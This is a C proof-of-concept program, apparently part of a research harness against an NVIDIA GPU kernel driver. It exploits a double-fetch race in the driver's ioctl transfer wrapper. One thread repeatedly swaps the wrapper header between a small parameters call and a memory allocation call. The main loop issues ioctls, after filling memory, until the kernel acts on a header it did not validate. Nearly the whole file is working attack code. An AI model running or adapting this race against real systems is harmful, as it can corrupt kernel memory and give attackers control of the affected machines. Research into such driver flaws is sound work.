// SPDX-License-Identifier: Apache-2.0
/*
 * race_wrapper BYTES ATTEMPTS: fills its slice, then makes calls in the transfer wrapper, which another thread changes from time
 * to time: from a call that passes to an allocation of so many bytes, and back. Where the engine reads the one, and the kernel
 * later the other, it has won. Rests with that.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "client.h"

#define HANDLE 0x5c000001u
#define PASSING_BYTES 8u
#define LEAST_NS 200000 /* some part of the time that a call takes */
#define MORE_NS 1000000

static struct settings settings;
static struct session session;
static struct rm_ioctl io;
static _Alignas(8) uint8_t wrapper[16];
static uint64_t passing, allocating; /* command and size of each */
static atomic_bool ended;

static uint64_t head_of(uint32_t number, uint32_t bytes)
{
	const struct nv_layout_nv_ioctl_xfer_t *at = &settings.abi->nv_ioctl_xfer_t;
	uint8_t head[sizeof(wrapper)] = { 0 };

	put32(head, at->cmd, number);
	put32(head, at->size, bytes);
	return get64(head, 0);
}

static int64_t clock_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000000000ll + now.tv_nsec;
}

static void set_for_a_while(uint64_t head)
{
	int64_t end = clock_ns() + LEAST_NS + rand() % MORE_NS;

	__atomic_store_n((uint64_t *)wrapper, head, __ATOMIC_RELAXED);
	while (clock_ns() < end)
		;
}

static void *change(void *argument)
{
	while (!atomic_load(&ended)) {
		set_for_a_while(passing);
		set_for_a_while(allocating);
	}
	return argument;
}

/* Whether the driver has made the object. */
static bool attempt(uint32_t handle, uint64_t bytes)
{
	uint8_t params[CLIENT_PARAMS] = { 0 };

	io = client_memory_ioctl(&session, handle, params, bytes);
	put32(io.data, io.status, RM_ERRNO);
	syscall(SYS_ioctl, session.ctl, _IOC(3u, 'F', NV_ESC_IOCTL_XFER_CMD, sizeof(wrapper)), wrapper);
	return get32(io.data, io.status) == NV_OK;
}

int main(int argc, char **argv)
{
	uint32_t i, attempts, won = 0;
	uint64_t bytes, filled;
	pthread_t thread;

	client_begin(&settings, &argc, &argv, 2);
	bytes = strtoull(argv[0], NULL, 0);
	attempts = (uint32_t)strtoul(argv[1], NULL, 0);
	client_open(&session, &settings);
	filled = client_fill(&session, bytes);
	printf("filled=%llu\n", (unsigned long long)filled);
	fflush(stdout);
	io = client_memory_ioctl(&session, HANDLE, (uint8_t[CLIENT_PARAMS]){ 0 }, bytes);
	passing = head_of(NV_ESC_SYS_PARAMS, PASSING_BYTES);
	allocating = head_of(NV_ESC_RM_ALLOC, io.bytes);
	put_pointer(wrapper, settings.abi->nv_ioctl_xfer_t.ptr, io.data);
	if (pthread_create(&thread, NULL, change, NULL))
		return 1;
	for (i = 0; i < attempts && won == 0; i++)
		won += attempt(HANDLE + i, bytes);
	atomic_store(&ended, true);
	pthread_join(thread, NULL);
	printf("resting filled=%llu won=%u\n", (unsigned long long)filled, won);
	client_rest();
}
